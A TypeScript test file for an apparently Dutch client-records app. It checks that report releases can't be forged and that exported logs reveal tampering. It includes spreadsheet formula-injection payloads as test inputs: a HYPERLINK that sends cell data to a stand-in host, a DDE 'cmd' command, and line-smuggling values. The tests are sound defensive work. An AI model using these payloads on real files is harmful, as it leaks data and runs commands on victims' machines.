/** Written to make the log say what did not happen, or hide what did; each test is named after the attack. */
import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { Audience } from '../../../shared/bridge/contract.ts'
import type { Handlers } from '../../../src-main/services/handlers.ts'
import { tamper } from '../vault/folders.ts'
import { newClient, newServices, openServices, passphrase, refusalOf } from './session.ts'

const overload = readFileSync(new URL('../../fixtures/overload.dossier.json', import.meta.url), 'utf8')

async function reported(services: Handlers, audience: Audience = 'employer') {
  const { clientId } = await services['dossier.import']({ text: overload })
  const { pdf } = await services['report.make']({ clientId, audience, language: 'nl' })
  return { clientId, digest: createHash('sha256').update(Buffer.from(pdf, 'base64')).digest('hex') }
}

async function released(services: Handlers, clientId: string, digest: string, audience: Audience) {
  const { code } = await refusalOf(services['report.released']({ clientId, audience, digest }))
  const { entries } = await services['log.list']({})
  return { code, noted: entries.some(({ kind }) => kind === 'released') }
}
const refused = { code: 'reportOutdated', noted: false }

describe('a release', () => {
  it('of pages that were never made is refused', async () => {
    const services = await openServices()
    const { clientId } = await reported(services)
    expect(await released(services, clientId, 'a'.repeat(64), 'employer')).toEqual(refused)
  })

  it('of another client’s pages, or of those for another reader, is refused', async () => {
    const services = await openServices()
    const [one, other] = [await reported(services), await reported(services, 'client')]
    expect(await released(services, other.clientId, one.digest, 'employer')).toEqual(refused)
    expect(await released(services, one.clientId, one.digest, 'client')).toEqual(refused)
  })

  it('played again after a word has changed is refused', async () => {
    const services = await openServices()
    const { clientId, digest } = await reported(services)
    await services['report.released']({ clientId, audience: 'employer', digest })
    const [card] = (await services['client.open']({ clientId })).records
    await services['record.save']({ record: card! })
    const again = services['report.released']({ clientId, audience: 'employer', digest })
    expect((await refusalOf(again)).code).toBe('reportOutdated')
    const { entries } = await services['log.list']({ clientId })
    expect(entries.filter(({ kind }) => kind === 'released')).toHaveLength(1)
  })

  it('played again while nothing changed is another handing over, and noted as one', async () => {
    const services = await openServices()
    const { clientId, digest } = await reported(services)
    for (let times = 0; times < 2; times++)
      await services['report.released']({ clientId, audience: 'employer', digest })
    const { entries } = await services['log.list']({ clientId })
    expect(entries.filter(({ kind }) => kind === 'released')).toHaveLength(2)
  })

  it('kept over a locking is refused', async () => {
    const services = await openServices()
    const { clientId, digest } = await reported(services)
    await services['vault.lock']({})
    await services['vault.unlock']({ passphrase })
    expect(await released(services, clientId, digest, 'employer')).toEqual(refused)
  })

  it('of an erased client is not found', async () => {
    const services = await openServices()
    const { clientId, digest } = await reported(services)
    await services['client.erase']({ clientId, reference: 'V-001' })
    expect((await released(services, clientId, digest, 'employer')).code).toBe('notFound')
  })
})

describe('an exported log', () => {
  it('cannot hide that its chain is broken, also when it is one client’s', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'draagkracht-test-'))
    const services = await openServices(folder)
    const clientId = await newClient(services, 'V-1')
    await newClient(services, 'V-2')
    await newClient(services, 'V-3')
    await services['vault.lock']({})
    tamper(folder, 'DELETE FROM log WHERE number IN (3, 4)')
    const again = newServices(folder)
    await again['vault.unlock']({ passphrase })
    const breaks = [3, 4].map((number) => ({ number, what: 'missing' }))
    expect((await again['log.list']({ clientId })).breaks).toEqual(breaks)
    for (const request of [{ clientId }, {}]) {
      const { text } = await again['log.export']({ ...request, language: 'nl' })
      const last = text.trimEnd().split('\r\n').at(-1)
      expect(last).toBe('"Let op: het logboek van de praktijk is niet heel. Regel 3 tot en met 4 ontbreken."')
    }
  })

  it.each([
    '=HYPERLINK("http://voorbeeld.invalid?"&A1;"klik")',
    '+1+cmd|/C calc!A0',
    '-2+3',
    '@SUM(A1:A9)',
    ' =1+1',
    '\t=1+1',
    '＝1+1',
    'V-1";=1+1;"',
    'V-1\r\n=1+1;x',
    'V-1\u2028=1+1',
  ])('runs no formula from a reference: %j', async (reference) => {
    const services = await openServices()
    await newClient(services, reference)
    const { text } = await services['log.export']({ language: 'nl' })
    const lines = text.replace('\uFEFF', '').trimEnd().split('\r\n')
    // Header, vault made, added, and the last line: no line was smuggled in.
    expect(lines).toHaveLength(4)
    // A cell ends at a quote that is not doubled; none begins with what a spreadsheet would run.
    const cells = [...text.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!)
    expect(cells).toHaveLength(10 * 3 + 1)
    expect(cells.filter((cell) => /^[\s]*[=+\-@＝]/u.test(cell))).toEqual([])
  })

  it('runs no formula from the name of the account', async () => {
    const services = await openServices(undefined, { user: '=1+1', now: () => new Date() })
    const { text } = await services['log.export']({ language: 'en' })
    expect(text).toContain(`"'=1+1"`)
  })
})
